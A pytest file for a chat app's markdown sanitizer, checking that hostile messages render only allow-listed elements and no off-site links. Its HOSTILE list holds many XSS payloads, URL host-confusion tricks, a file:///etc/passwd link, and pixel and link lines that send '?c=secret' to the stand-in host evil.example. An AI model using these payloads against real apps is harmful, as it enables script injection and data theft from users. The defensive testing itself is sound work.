"""Nothing that a message can hold leaves the allow-list: no script, no image, no link to another host."""

from html.parser import HTMLParser

import pytest

from chat.markdown import ATTRIBUTES, TAGS, render_markdown, render_plain

HOSTS = {"www.acme.example", "help.acme.example"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(https://evil.example)</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!-- --><math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "![pixel](https://evil.example/p.png?c=secret)",
    "![pixel](https://www.acme.example/p.png)",
    "![pixel][1]\n\n[1]: https://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](https://evil.example/?c=secret)",
    "[x](https://www.acme.example.evil.example/)",
    "[x](https://evil.example/www.acme.example)",
    "[x](https://www.acme.example@evil.example/)",
    "[x](https://evil.example\\@www.acme.example/)",
    "[x](https://evil.example#@www.acme.example)",
    "[x](https:\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://[::1)",
    "[x](ftp://www.acme.example/)",
    "[x](file:///etc/passwd)",
    "[x](https://ACME.example/)",
    "<https://evil.example/>",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: https://evil.example 'title\" onclick=alert(1)'",
    "[![pixel](https://evil.example/p.png)](https://evil.example)",
    "`</code><script>alert(1)</script>`",
    "```html\n</pre><script>alert(1)</script>\n```",
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
    "# <b onclick=alert(1)>x</b>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '[x](https://www.acme.example/" onmouseover="alert(1))',
    "> - > <script>",
    "*" * 2000 + "[" * 2000,
    "\x00<script\x00>alert(1)</script>",
]


class Inventory(HTMLParser):
    """Every element and attribute that a browser would see."""

    def __init__(self, html: str):
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_yields_only_allowed_elements_and_no_link(text):
    for html in (render_markdown(text, allowed_hosts=HOSTS), render_plain(text)):
        for tag, attributes in Inventory(html).elements:
            assert tag in TAGS - {"a"}, html
            assert set(attributes) <= ATTRIBUTES.get(tag, set()), html


@pytest.mark.parametrize("at", range(0, 60, 7))
def test_hostile_text_cut_anywhere_stays_harmless(at):
    text = "See [terms](https://evil.example/?q=1) and <img src=https://evil.example/p onerror=x>"
    for tag, _ in Inventory(render_markdown(text[:at], allowed_hosts=HOSTS)).elements:
        assert tag == "p"


def test_a_link_to_an_allowed_host_opens_apart_and_passes_nothing_on():
    html = render_markdown("[Claims](https://WWW.acme.example/claims?x=1)", allowed_hosts=HOSTS)
    [(_, _), (tag, attributes)] = Inventory(html).elements
    assert tag == "a"
    assert attributes["target"] == "_blank"
    assert set(attributes["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    assert attributes["href"].lower() == "https://www.acme.example/claims?x=1"


def test_a_link_elsewhere_keeps_its_words():
    html = render_markdown("Read [the **terms**](https://evil.example) now", allowed_hosts=HOSTS)
    assert html == "<p>Read the <strong>terms</strong> now</p>"


def test_an_image_leaves_its_description():
    assert render_markdown("![a red car](https://evil.example/p.png)", allowed_hosts=HOSTS) == "<p>a red car</p>"


def test_structure_survives():
    html = render_markdown(
        "# Cover\n\nFirst\nsecond\n\n- **one**\n- *two*\n\n3. three\n\n| a | b |\n|---|--:|\n| c | 1 |",
        allowed_hosts=HOSTS,
    )
    for expected in (
        "<h3>Cover</h3>",
        "First<br>",
        "<li><strong>one</strong></li>",
        "<em>two</em>",
        '<ol start="3">',
        '<td data-align="end">1</td>',
    ):
        assert expected in html
    assert "style" not in html


def test_a_customers_text_is_shown_as_written():
    assert render_plain("1 < 2 & **so**\r\n\"it\" 'is'\nthen") == (
        "1 &lt; 2 &amp; **so**<br>&quot;it&quot; &#x27;is&#x27;<br>then"
    )
